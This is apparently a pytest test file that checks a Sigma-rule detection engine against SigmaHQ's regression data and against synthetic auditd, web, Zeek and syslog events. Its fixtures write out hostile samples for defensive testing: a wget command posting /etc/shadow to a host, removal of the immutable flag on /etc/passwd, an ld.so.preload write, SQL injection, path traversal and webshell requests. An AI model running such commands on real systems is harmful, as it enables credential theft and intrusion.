"""The public rules on real events: SigmaHQ's rules over SigmaHQ's own regression data, where they are at hand."""

from __future__ import annotations

import io
from pathlib import Path

import pytest
import yaml

from correlate.detect import Detector
from correlate.ir import Rule, RuleSet
from correlate.logsources import unrecorded
from correlate.rules import load_rules
from sensor.reader import open_input

SIGMA = Path(__file__).parents[2].parent / "shared" / "sigma"
pytestmark = pytest.mark.skipif(not (SIGMA / "sigmahq-rules").is_dir(), reason="no public rules at hand")

COUNTED_OTHERWISE = {
    # The file says 1; its three events all name a dropped tool (pySigma's SQLite backend finds the same three).
    "8fbf3271-1ef6-4e94-8210-03c2317947f6": 3,
}


@pytest.fixture(scope="module")
def public() -> RuleSet:
    return load_rules([SIGMA / "sigmahq-rules"], keep_going=True)


def test_nearly_every_rule_has_events_and_all_its_fields(public: RuleSet) -> None:
    routed = [rule for rule in public.rules if rule.route]
    whole = [rule for rule in routed if rule.error is None and not unrecorded(rule.logsource, rule.fields)]
    assert len(public.rules) >= 3_140
    assert len(routed) >= 0.96 * len(public.rules)
    assert len(whole) >= 0.995 * len(routed)
    # What has none is of products that nothing here reads.
    without = {rule.logsource[0] or rule.logsource[1] for rule in public.rules if not rule.route}
    assert without <= {
        "macos",
        "cisco",
        "huawei",
        "juniper",
        "fortigate",
        "firewall",
        "database",
        "django",
        "jvm",
        "nodejs",
        "python",
        "ruby_on_rails",
        "spring",
        "sql",
        "velocity",
    }


def test_every_rule_matches_its_regression_events(public: RuleSet) -> None:
    pytest.importorskip("evtx")
    done = 0
    wrong: list[str] = []
    for info in sorted((SIGMA / "regression_data").rglob("info.yml")):
        data = yaml.safe_load(info.read_text("utf-8"))
        rule = public.find(data["rule_metadata"][0]["id"])
        for case in data.get("regression_tests_info", ()):
            path = SIGMA / case["path"]
            if not isinstance(rule, Rule) or path.suffix != ".evtx":
                continue
            detector = Detector(RuleSet(rules=(rule,)))
            for events in open_input(path).tables():
                detector.feed(events)
            found = detector.status()[0].matches
            expected = COUNTED_OTHERWISE.get(rule.id, case.get("match_count"))
            done += 1
            if found != expected if expected is not None else not found:
                wrong.append(f"{rule.meta.title}: {found} of {expected}")
    assert done >= 90
    assert wrong == []


def _audit(number: int, program: str, *arguments: str, more: str = "") -> str:
    head = f"msg=audit(1764481363.243:{number}):"
    words = " ".join(f'a{place}="{word}"' for place, word in enumerate(arguments))
    who = f'ppid=1 pid={number} auid=1000 uid=0 euid=0 comm="x" exe="{program}" key=(null)'
    lines = [
        f"type=SYSCALL {head} arch=c000003e syscall=59 success=yes exit=0 {who}",
        f"type=EXECVE {head} argc={len(arguments)} {words}",
        f'type=CWD {head} cwd="/home/u"',
    ]
    return "\n".join([*lines, *([more.format(head=head)] if more else [])]) + "\n"


_TIME = "[10/Oct/2025:13:55:36 +0800]"
STORIES: dict[str, tuple[str, set[str]]] = {
    "auditd": (
        _audit(1, "/usr/bin/base64", "base64", "-d", "payload.b64")
        + _audit(2, "/usr/bin/chattr", "chattr", "-i", "/etc/passwd")
        + _audit(3, "/usr/bin/wget", "wget", "--post-file=/etc/shadow", "http://x")
        + _audit(4, "/bin/x", "x", more='type=PATH {head} item=1 name="/etc/ld.so.preload" nametype=CREATE'),
        {
            "Decode Base64 Encoded Text",  # category process_creation
            "Remove Immutable File Attribute",  # process_creation
            "Remove Immutable File Attribute - Auditd",  # service auditd, EXECVE
            "Data Exfiltration with Wget",
            "Modification of ld.so.preload",  # service auditd, PATH
        },
    ),
    "web": (
        f'10.0.0.1 - - {_TIME} "GET /a.php?id=1%20UNION%20SELECT%201 HTTP/1.1" 200 23 "-" "sqlmap/1.0"\n'
        f'10.0.0.1 - - {_TIME} "GET /../../../../etc/passwd HTTP/1.1" 200 23 "-" "Mozilla/5.0"\n'
        f'10.0.0.1 - - {_TIME} "GET /shell.jsp?cmd=whoami HTTP/1.1" 200 23 "-" "Mozilla/5.0"\n',
        {
            "SQL Injection Strings In URI",
            "Path Traversal Exploitation Attempts",
            "Suspicious User-Agents Related To Recon Tools",
            "Windows Webshell Strings",
        },
    ),
    "zeek": (
        '{"_path":"dns","ts":1700000000.5,"uid":"C","id.orig_h":"10.0.0.1","query":"xx.monerohash.com"}\n'
        '{"_path":"dce_rpc","ts":1700000000.5,"uid":"C","endpoint":"efs","operation":"EfsRpcOpenFileRaw"}\n'
        '{"_path":"smb_files","ts":1700000000.5,"uid":"C","action":"SMB::FILE_OPEN","name":"Temp\\\\lsass.dmp"}\n',
        {
            "DNS Events Related To Mining Pools",
            "Potential PetitPotam Attack Via EFS RPC Calls",
            "Suspicious Access to Sensitive File Extensions - Zeek",
        },
    ),
    "syslog": (
        "<86>Oct 11 22:14:15 host sshd[12]: fatal: Timeout. bad client public DH value\n",
        {"Suspicious OpenSSH Daemon Error"},
    ),
}


@pytest.mark.parametrize("kind", STORIES)
def test_rules_see_events_that_are_not_of_windows(public: RuleSet, kind: str) -> None:
    text, expected = STORIES[kind]
    made = open_input(io.BytesIO(text.encode()), name=kind)
    assert made.kind == kind
    titles = {rule.meta.title for rule in public.rules}
    assert expected <= titles, "the rules at hand have changed"
    detector = Detector(RuleSet(rules=tuple(rule for rule in public.rules if rule.logsource[0] != "windows")))
    for events in made.tables():
        detector.feed(events)
    assert expected <= {one.title for one in detector.status() if one.matches}
